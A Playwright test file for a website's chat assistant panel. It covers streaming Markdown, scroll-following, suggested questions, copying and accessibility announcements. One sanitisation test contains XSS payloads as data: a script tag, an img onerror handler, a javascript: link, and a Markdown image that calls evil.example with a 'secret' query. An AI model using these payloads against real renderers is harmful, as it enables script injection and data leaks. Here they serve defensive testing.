/** Reading the chat: following the newest text, Markdown, links, copying, suggested questions, what is announced. */
import { content } from '#content/index.ts';
import { chatMessages } from '../side-by-side.ts';
import { dictated, words } from '../fakes/chat-provider.ts';
import { expect, inEveryLanguage, test, type Chat } from './chat.ts';

const LONG = Array.from({ length: 40 }, (_, index) => `Line ${index}.\n\n`);

/** Distance of the log from its end, px. */
function distance(chat: Chat): Promise<number> {
  return chat.log.evaluate((log) => Math.round(log.scrollHeight - log.scrollTop - log.clientHeight));
}

inEveryLanguage((language) => {
  test('a suggested question is one tap away before the first send, and leaves what was typed', async ({
    chat,
    provider,
  }) => {
    provider.answerWith(words('Hello.'));
    await chat.open(language);
    const [first, second, third] = content.suggestions;
    const offered = [first, second, chatMessages.advertisement, third];
    await expect(chat.part('suggestion')).toHaveText(offered.map((suggestion) => suggestion[language]));
    await chat.input.fill('draft');
    await chat.part('suggestion').first().click();
    await chat.idle();
    await expect(chat.messages('human')).toContainText(first[language]);
    await expect(chat.input).toHaveValue('draft');
    await expect(chat.part('suggestion')).toHaveCount(0);
    expect(provider.requests.at(-1)?.body.messages).toEqual([{ role: 'user', content: first[language] }]);
  });
});

test('bold is bold in Chinese and Japanese, whole while it streams', async ({ chat, provider }) => {
  const answer = dictated();
  provider.answerWith(answer.answer);
  await chat.open('zh');
  await chat.send('one');
  answer.say('これは**「重要」');
  await expect(chat.last.locator('strong')).toHaveText('「重要」');
  answer.say('**です。这是**“重点”**内容。');
  answer.finish();
  await chat.idle();
  await expect(chat.last.locator('strong')).toHaveText(['「重要」', '“重点”']);
  await expect(chat.last).not.toContainText('*');
});

test('the log follows the newest text; a reader who scrolled up stays where they are, and a button or a send leads back down', async ({
  chat,
  page,
  provider,
}) => {
  await page.clock.install();
  const answer = dictated();
  provider.answerWith(answer.answer, words('Short.'));
  await chat.open();
  await chat.send('one');
  for (const line of LONG) answer.say(line);
  await expect(chat.last).toContainText('Line 39.');
  await expect.poll(() => distance(chat)).toBeLessThanOrEqual(8);
  await expect(chat.part('newest')).toHaveCount(0);

  await chat.log.evaluate((log) => log.scrollTo({ top: 30 }));
  await expect(chat.part('newest')).toBeVisible();
  await expect(chat.part('newest')).toHaveAccessibleName('Jump to newest');
  answer.say('And more.');
  await expect(chat.last).toContainText('And more.');
  expect(await chat.log.evaluate((log) => log.scrollTop)).toBe(30);
  await chat.part('newest').press('Enter');
  await expect.poll(() => distance(chat)).toBeLessThanOrEqual(8);
  await expect(chat.part('newest')).toHaveCount(0);
  await expect(chat.log).toBeFocused();
  answer.say('And the end.');
  answer.finish();
  await chat.idle();
  await expect.poll(() => distance(chat)).toBeLessThanOrEqual(8);

  await page.clock.fastForward(5_000);
  await chat.log.evaluate((log) => log.scrollTo({ top: 0 }));
  await expect(chat.part('newest')).toBeVisible();
  await chat.send('two');
  await expect.poll(() => distance(chat)).toBeLessThanOrEqual(8);

  await chat.idle();
  await chat.part('close').click();
  await expect(chat.panel).toHaveCount(0);
  await chat.button.click();
  await expect(chat.last).toBeInViewport();
  await expect.poll(() => distance(chat)).toBeLessThanOrEqual(8);
  await expect(chat.part('newest')).toHaveCount(0);
});

test('no HTML, no image, no dangerous link comes out of an answer', async ({ chat, page, provider }) => {
  const hostile = [
    '<img src=x onerror="window.hacked=1"> <script>window.hacked=1</script>\n\n',
    '![x](https://evil.example/?q=secret) [a](javascript:window.hacked=1) [b](//evil.example) [c](data:text/html,x)\n\n',
    '[ok](https://example.com/a) [mail](mailto:a@example.com) [here](#skills)',
  ];
  provider.answerWith(words(...hostile));
  await chat.open();
  await chat.send('one');
  await chat.idle();
  await expect(chat.last.locator('strong, img, script')).toHaveCount(0);
  const links = chat.last.getByRole('link');
  await expect(links).toHaveCount(3);
  await expect(links.nth(0)).toHaveAttribute('href', 'https://example.com/a');
  await expect(links.nth(0)).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(links.nth(0)).toHaveAttribute('target', '_blank');
  await expect(links.nth(1)).toHaveAttribute('href', 'mailto:a@example.com');
  await expect(links.nth(2)).toHaveAttribute('href', '#skills');
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
});

test('a link to a section scrolls there, one to a project opens its dialog, and the panel stays on a wide screen', async ({
  chat,
  page,
  provider,
}) => {
  provider.answerWith(words(`See [Experience](#experience) or [this](#project-${content.projects[0]!.id}).`));
  await chat.open();
  await chat.send('one');
  await chat.idle();
  await chat.last.getByRole('link').first().click();
  await expect(page.locator('#experience')).toBeInViewport();
  expect(new URL(page.url()).hash).toBe('#experience');
  await expect(chat.panel).toBeVisible();

  await chat.last.getByRole('link').last().click();
  await expect(page.getByRole('dialog', { name: content.projects[0]!.title.en })).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog', { name: content.projects[0]!.title.en })).toBeHidden();
  await expect(chat.panel).toBeVisible();
});

test('no line of an answer begins with the stop after a link, or ends with the bracket before it', async ({
  chat,
  provider,
}) => {
  const sentence = '是（[技能](#skills)）、（[经历](#experience)）。';
  provider.answerWith(words(Array.from({ length: 40 }, (_, index) => '字'.repeat(index % 7) + sentence).join('')));
  await chat.open('zh');
  await chat.send('one');
  await chat.idle();
  const torn = await chat.last.locator('p').evaluate((paragraph) =>
    [...paragraph.querySelectorAll('a')].flatMap((link) => {
      const range = document.createRange();
      const lineOf = (node: Node, from: number, to: number) => {
        range.setStart(node, from);
        range.setEnd(node, to);
        return Math.round(range.getBoundingClientRect().bottom / 8);
      };
      const [before, after] = [link.previousSibling!, link.nextSibling!];
      const { top, bottom } = link.getBoundingClientRect();
      if (bottom - top > 30) return ['link'];
      const lines = [lineOf(before, before.textContent!.length - 1, before.textContent!.length), lineOf(after, 0, 1)];
      return lines.every((line) => line === Math.round(bottom / 8)) ? [] : [link.textContent];
    }),
  );
  expect(torn).toEqual([]);
});

test.describe('copying', () => {
  test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

  test('an answer is copied as it came, and the button says so for a while', async ({ chat, page, provider }) => {
    await page.clock.install();
    provider.answerWith(words('Some **bold** words.'));
    await chat.open();
    await chat.send('one');
    await chat.idle();
    const copy = chat.last.getByRole('button', { name: 'Copy answer' });
    await copy.click();
    await expect(copy).toHaveText('Copied');
    await expect(chat.panel.getByRole('status')).toHaveText('Answer copied');
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('Some **bold** words.');
    await page.clock.fastForward(3_000);
    await expect(copy).toHaveText('Copy');
    const heard = await chat.panel.getByRole('status').textContent();
    await copy.click();
    await expect(copy).toHaveText('Copied');
    // The same words are heard a second time.
    expect(await chat.panel.getByRole('status').textContent()).not.toBe(heard);
  });
});

test('assistive technology hears one finished answer, not every word, and a send that was refused', async ({
  chat,
  page,
  provider,
}) => {
  await page.clock.install();
  const answer = dictated();
  provider.answerWith(answer.answer);
  await chat.open();
  const heard = chat.panel.getByRole('status');
  await expect(chat.log).toHaveAttribute('role', 'log');
  await expect(chat.log).toHaveAttribute('aria-live', 'off');
  await chat.send('one');
  answer.say('Some **bold**');
  await expect(chat.last).toContainText('Some bold');
  await expect(chat.log).toHaveAttribute('aria-busy', 'true');
  await expect(heard).toHaveText('');
  answer.say(' words.');
  answer.finish();
  await expect(heard).toHaveText('New answer: Some bold words.');
  await expect(chat.log).toHaveAttribute('aria-busy', 'false');

  await page.clock.fastForward('15:01');
  await chat.send('two');
  await expect(heard).toHaveText('⚠️ Session time has exceeded 15 minutes limit');
});
